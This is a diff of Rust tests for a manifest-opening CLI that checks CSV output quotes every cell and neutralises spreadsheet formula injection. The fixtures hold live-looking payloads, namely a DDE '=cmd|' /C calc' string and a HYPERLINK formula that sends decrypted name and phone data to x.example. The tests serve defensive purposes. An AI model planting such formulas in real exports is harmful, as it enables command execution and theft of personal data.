@@ -528,15 +528,15 @@ fn batch_csv_quoting_edge_cases_and_formula_guard() {
     assert!(out
         .stderr
         .starts_with("sealpost: read 5 records from manifest.csv: 3 opened, 2 rejected\n"));
-    let tail = ",张三,13812345678,CN,浙江省,杭州市,西湖区,文三路 90 号,,,310012,,\n";
+    let tail = ",\"张三\",\"13812345678\",\"CN\",\"浙江省\",\"杭州市\",\"西湖区\",\"文三路 90 号\",\"\",\"\",\"310012\",\"\",\"\"\n";
     assert_eq!(
         hub.read("opened.csv"),
         format!(
-            "parcel,orderRef,note,name,phone,country,addressLevel1,addressLevel2,addressLevel3,\
-             streetLine1,streetLine2,streetLine3,postalCode,company,deliveryNote\n\
-             1,ORD-1,\"fragile, \"\"glass\"\"\"{tail}\
-             2,ORD-2,\"two\nlines\"{tail}\
-             5,ORD-2,=cmd|' /C calc'!A0{tail}"
+            "\"parcel\",\"orderRef\",\"note\",\"name\",\"phone\",\"country\",\"addressLevel1\",\"addressLevel2\",\"addressLevel3\",\
+             \"streetLine1\",\"streetLine2\",\"streetLine3\",\"postalCode\",\"company\",\"deliveryNote\"\n\
+             \"1\",\"ORD-1\",\"fragile, \"\"glass\"\"\"{tail}\
+             \"2\",\"ORD-2\",\"two\nlines\"{tail}\
+             \"5\",\"ORD-2\",\"'=cmd|' /C calc'!A0\"{tail}"
         )
     );
     // line numbers are where each record starts (record 2 spans two lines)
@@ -611,11 +611,11 @@ fn csv_formula_cells_from_the_sealed_address_are_neutralised() {
     assert_eq!(out.code, 0, "{}", out.stderr);
     let csv = hub.read("out.csv");
     assert!(
-        csv.ends_with(",310012,\"'=HYPERLINK(\"\"http://x\"\")\",'@SUM(1)\n"),
+        csv.ends_with(",\"310012\",\"'=HYPERLINK(\"\"http://x\"\")\",\"'@SUM(1)\"\n"),
         "{csv}"
     );
     assert!(
-        csv.contains(",13812345678,"),
+        csv.contains(",\"13812345678\","),
         "phone numbers are left alone: {csv}"
     );
 }
@@ -1268,5 +1268,71 @@ fn witnessed_checkpoints_catch_consistent_rewrites_and_rollbacks() {
         out.stderr.contains("signed with another audit key"),
         "{}",
         out.stderr
+    );
+}
+
+#[test]
+fn csv_output_is_inert_whatever_the_manifest_holds() {
+    let hub = Hub::new("csv-inject");
+    let pk = hub.keygen("courier.key", &[]);
+    // a seller-chosen order reference that would send the decrypted name and phone away
+    let evil = "=HYPERLINK(\"https://x.example/?\"&D2&E2,\"track\")";
+    let (e1, e2) = (hub.seal(&pk, evil), hub.seal(&pk, "ORD-2"));
+    let q = |c: &str| format!("\"{}\"", c.replace('"', "\"\""));
+    let manifest = format!(
+        "{},envelope,{},{}\n{},{e1},{},{}\n{},{e2},{},{}\n",
+        q("orderRef"),
+        q(" =HEADER()"),
+        q("@tag"),
+        q(evil),
+        q(" =1+1"),
+        q("@SUM(A1)"),
+        q("ORD-2"),
+        q("\"=cmd|' /C calc'!A0"),
+        q("\t=2"),
+    );
+    hub.write("manifest.csv", &manifest);
+    let out = hub.run(
+        &[
+            "open",
+            "--batch",
+            "-i",
+            "courier.key",
+            "-o",
+            "opened.csv",
+            "manifest.csv",
+        ],
+        &[("SEALPOST_PASSPHRASE", PASS)],
+        "",
+    );
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let text = hub.read("opened.csv");
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes());
+    let mut cells = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            cells += 1;
+            let significant = cell.trim_start_matches([' ', '"', '\'']);
+            let active = cell.starts_with(['\t', '\r'])
+                || significant.starts_with(['=', '@', '\t', '\r'])
+                || (significant.starts_with(['+', '-'])
+                    && !significant
+                        .chars()
+                        .all(|c| c.is_ascii_digit() || " +-().".contains(c)));
+            assert!(
+                !active || cell.starts_with('\''),
+                "a live formula: {cell:?}"
+            );
+        }
+    }
+    assert_eq!(cells, 3 * 15);
+    // every cell quoted; the guarded values keep their text after the `'`
+    assert!(text.lines().all(|l| l.starts_with('"')), "{text}");
+    assert!(text.contains(&q(&format!("'{evil}"))), "{text}");
+    assert!(
+        text.contains("\"' =HEADER()\"") && text.contains("\"'\"\"=cmd|' /C calc'!A0\""),
+        "{text}"
     );
 }
